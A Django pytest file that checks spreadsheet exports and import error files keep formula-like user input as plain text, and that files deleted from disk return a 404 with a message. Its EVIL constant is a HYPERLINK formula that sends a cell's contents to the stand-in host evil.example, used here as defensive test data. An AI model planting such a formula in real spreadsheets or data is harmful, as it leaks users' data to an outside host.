"""Exports carry what users typed as text, never as a formula; a stored file gone from disk is a 404 that says so."""

from __future__ import annotations

import io
import os

import pytest
from openpyxl import load_workbook

from waibao.delivery import services
from waibao.vendors.demo import tiny_pdf
from waibao.vendors.models import VendorContact

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?c="&D3,"x")'


def test_a_contact_named_like_a_formula_is_text_in_the_managers_vendor_export(vendor_a, manager, as_user):
    VendorContact.objects.create(vendor=vendor_a, name=EVIL, is_primary=True)
    r = as_user(manager).get("/vendors/export.xlsx")
    ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_formula_in_an_imported_row_comes_back_as_text_in_the_error_file(contract, manager, tmp_path):
    path = tmp_path / "cases.csv"
    path.write_text(
        f'编号,开始时间,首次响应时间\n"{EVIL.replace(chr(34), chr(34) * 2)}",not-a-date,x\n', encoding="utf-8"
    )
    job = services.import_path(contract=contract, actor=manager, path=str(path))
    job.refresh_from_db()
    text = job.error_file.read().decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in text
    assert f',"{EVIL.replace(chr(34), chr(34) * 2)}"' not in text


def test_an_import_error_file_gone_from_disk_is_a_404_with_a_message(contract, manager, tmp_path, as_user):
    path = tmp_path / "cases.csv"
    path.write_text("编号,开始时间,首次响应时间\nC1,not-a-date,x\n", encoding="utf-8")
    job = services.import_path(contract=contract, actor=manager, path=str(path))
    job.refresh_from_db()
    os.remove(job.error_file.path)
    r = as_user(manager).get(f"/delivery/imports/{job.pk}/errors.csv")
    assert r.status_code == 404 and "文件已不在服务器上" in r.content.decode()


def test_a_vendor_document_gone_from_disk_is_a_404_with_a_message_on_page_and_api(
    vendor_a, vendor_user_a, api_client, as_user
):
    own = api_client(vendor_user_a)
    up = own.post(
        f"/api/v1/vendors/{vendor_a.pk}/documents",
        {"type": "qualification", "title": "资质", "file": io.BytesIO(tiny_pdf("doc"))},
    )
    doc_id = up.json()["id"]
    from waibao.vendors.models import VendorDocument

    os.remove(VendorDocument.objects.get(pk=doc_id).file.path)
    r = own.get(f"/api/v1/vendors/documents/{doc_id}/file")
    assert r.status_code == 404 and "文件已不在服务器上" in r.json()["message"]
    page = as_user(vendor_user_a).get(f"/vendors/documents/{doc_id}/file/")
    assert page.status_code == 404 and "文件已不在服务器上" in page.content.decode()


def test_a_contract_document_gone_from_disk_is_a_404_with_a_message(vendor_a, manager, as_user):
    from waibao.contracts import services as contract_services
    from waibao.quality.tests.factories import ContractFactory, pdf

    contract = ContractFactory(vendor=vendor_a, owner=manager)
    doc = contract_services.upload_document(contract=contract, actor=manager, upload=pdf())
    os.remove(doc.file.path)
    r = as_user(manager).get(f"/contracts/{contract.code}/documents/{doc.pk}/")
    assert r.status_code == 404 and "文件已不在服务器上" in r.content.decode()


def test_quality_evidence_gone_from_disk_is_a_404_with_a_message(vendor_a, manager, quality_user, as_user):
    from waibao.quality import services as quality_services
    from waibao.quality.tests.factories import ContractFactory, make_sla_result, pdf

    contract = ContractFactory(vendor=vendor_a, owner=manager)
    ncr = quality_services.open_ncr_for_sla_breach(result=make_sla_result(contract), actor=quality_user)
    ev = quality_services.add_evidence(ncr=ncr, actor=quality_user, upload=pdf())
    os.remove(ev.file.path)
    r = as_user(quality_user).get(f"/quality/evidence/{ev.pk}/file/")
    assert r.status_code == 404 and "文件已不在服务器上" in r.content.decode()
